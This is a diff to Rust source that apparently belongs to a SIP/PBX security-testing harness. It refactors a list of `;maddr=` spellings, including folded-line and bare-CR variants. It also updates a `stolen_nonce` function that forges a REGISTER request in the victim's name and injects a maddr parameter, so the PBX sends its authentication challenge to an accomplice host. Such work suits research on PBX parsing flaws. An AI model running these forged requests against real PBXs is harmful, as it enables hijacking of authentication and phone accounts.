@@ -13,13 +13,21 @@ use crate::{
     namespace::Namespace,
 };
 
-/// Spellings of `;maddr=` that PBXs read; `B` stands for the address.
-pub const MADDR: [(&str, &str, Form); 5] = [
-    ("maddr", ";maddr=B", Form::Plain),
-    ("MADDR", ";MADDR=B", Form::Plain),
-    ("maddr, blanks", ";maddr  =  B", Form::Plain),
-    ("maddr, folded", ";maddr\r\n =B", Form::Plain),
-    ("maddr, bare CR", ";maddr=B", Form::BareCr),
+/// A way to write `;maddr=` that PBXs read.
+#[derive(Clone, Copy, Debug)]
+pub struct Maddr {
+    pub name: &'static str,
+    /// `B` stands for the address.
+    pub parameter: &'static str,
+    pub form: Form,
+}
+
+pub const MADDR: [Maddr; 5] = [
+    Maddr { name: "maddr", parameter: ";maddr=B", form: Form::Plain },
+    Maddr { name: "MADDR", parameter: ";MADDR=B", form: Form::Plain },
+    Maddr { name: "maddr, blanks", parameter: ";maddr  =  B", form: Form::Plain },
+    Maddr { name: "maddr, folded", parameter: ";maddr\r\n =B", form: Form::Plain },
+    Maddr { name: "maddr, bare CR", parameter: ";maddr=B", form: Form::BareCr },
 ];
 
 /// What the forged requests carry.
@@ -166,15 +174,15 @@ pub fn stolen_nonce(
     accomplice: (&Namespace, IpAddr),
     victim: SocketAddrV4,
     pbx: SocketAddrV4,
-    (spelling, form): (&str, Form),
+    maddr: Maddr,
 ) -> Option<Challenge> {
     let (host, address) = accomplice;
     let listener: SocketAddr = (address, victim.port()).into();
     let mut channel = host.enter(|| Channel::open(Transport::Udp, listener, pbx.into())).ok()?;
     let plain = request(victim, pbx, "REGISTER", "1001", Form::Plain, None);
-    let diverted = request(victim, pbx, "REGISTER", "1001", form, None).replacen(
+    let diverted = request(victim, pbx, "REGISTER", "1001", maddr.form, None).replacen(
         ";rport",
-        &format!("{};rport", spelling.replace('B', &address.to_string())),
+        &format!("{};rport", maddr.parameter.replace('B', &address.to_string())),
         1,
     );
     let forged = |payload: String| Forged { source: victim, destination: pbx, payload: payload.into_bytes() };
